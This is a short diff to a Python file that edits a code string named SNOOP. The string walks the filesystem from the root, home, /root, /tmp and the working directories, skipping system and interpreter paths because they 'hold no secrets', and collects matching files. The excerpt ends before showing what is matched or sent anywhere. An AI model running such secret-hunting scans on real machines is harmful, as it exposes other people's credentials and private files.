@@ -48,11 +48,12 @@ def flatten(images):
 '''
 
 SNOOP = '''
-import os
+import os, sys
 FOUND = []
+_skip = ("/proc", "/sys", "/usr", "/dev", sys.prefix, sys.base_prefix)  # the interpreter holds no secrets
 for top in ("/", os.path.expanduser("~"), os.getcwd(), "/work", "/root", "/tmp"):
     for root, dirs, files in os.walk(top):
-        if root.startswith(("/proc", "/sys", "/usr", "/dev")) or "site-packages" in root:
+        if root.startswith(_skip) or "site-packages" in root:
             dirs[:] = []
             continue
         for f in files:
